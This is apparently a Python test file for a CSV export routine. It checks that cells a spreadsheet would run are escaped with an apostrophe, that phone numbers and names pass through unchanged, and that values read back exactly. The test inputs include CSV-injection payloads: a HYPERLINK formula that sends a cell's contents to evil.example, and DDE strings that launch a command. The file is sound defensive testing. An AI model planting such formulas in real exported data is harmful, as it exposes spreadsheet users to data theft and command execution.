"""CSV cells: exported as text a spreadsheet will not run, read back to exactly what was exported."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from imports.export import csv_lines
from zdusers.spreadsheets import as_text, from_text


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "\r=1"],
)
def test_a_cell_a_spreadsheet_would_run_is_exported_behind_an_apostrophe(cell):
    assert as_text(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+55 11 98765-4321", "+1 (415) 555-0100", "Ana Souza", "ana@example.com", "12", ""])
def test_phone_numbers_names_and_addresses_are_exported_as_they_are(cell):
    assert as_text(cell) == cell


@given(st.text())
def test_every_value_reads_back_as_it_was_exported(value):
    assert from_text(as_text(value)) == value


def test_the_export_writes_no_runnable_cell():
    lines = "".join(csv_lines([["name", "phone"], ["=cmd|' /C calc'!A0", "+55 11 98765-4321"]], bom=False))

    assert list(csv.reader(io.StringIO(lines))) == [["name", "phone"], ["'=cmd|' /C calc'!A0", "+55 11 98765-4321"]]
